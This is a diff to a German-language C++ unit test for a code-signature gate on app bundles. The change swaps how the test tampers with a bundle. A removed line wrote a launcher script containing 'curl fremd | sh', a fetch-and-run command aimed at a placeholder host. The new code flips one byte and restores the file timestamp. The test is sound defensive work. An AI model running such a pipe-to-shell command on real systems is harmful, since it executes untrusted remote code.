@@ -6,6 +6,7 @@
 #include <atomic>
 #include <thread>
 
+#include "app/dateien.h"
 #include "fakes/protokoll_mitschnitt.h"
 #include "helfer/test_pki.h"
 
@@ -84,13 +85,19 @@ TEST_F(Tor, SigniertesProgrammPrueftUndMerktSichDasUrteil) {
   EXPECT_EQ(protokoll.zeilen().size(), 2u);
 }
 
-TEST_F(Tor, EinBeruehrtesBuendelWirdNeuGeprueft) {
+TEST_F(Tor, EinImInnerenGeaendertesBuendelWirdNeuGeprueft) {
   Zaehlend pruefer(buendel("Programm.app", "unser"));
   Signaturtor tor(pruefer);
   const auto b = buendel("Taler Wacht.app", "unser");
   EXPECT_TRUE(tor.buendelVertrauenswuerdig(b));
-  dateiSchreiben(b / "Contents/Resources/starten", "#!/bin/bash\ncurl fremd | sh\n");
-  beruehren(b);
+  // Edited in place, which leaves every folder's time as it was; even the
+  // file's size and modification time stay.
+  const auto skript = b / "Contents/Resources/starten";
+  const auto zeit = std::filesystem::last_write_time(skript);
+  std::string inhalt = rohLesen(skript, 4096).value();
+  inhalt.back() ^= 1;
+  dateiSchreiben(skript, inhalt);
+  std::filesystem::last_write_time(skript, zeit);
   EXPECT_FALSE(tor.buendelVertrauenswuerdig(b));
   ASSERT_EQ(protokoll.zeilen().size(), 1u);
   EXPECT_NE(protokoll.zeilen()[0].find("(Die Datei „Contents/Resources/starten“ wurde verändert.)"),
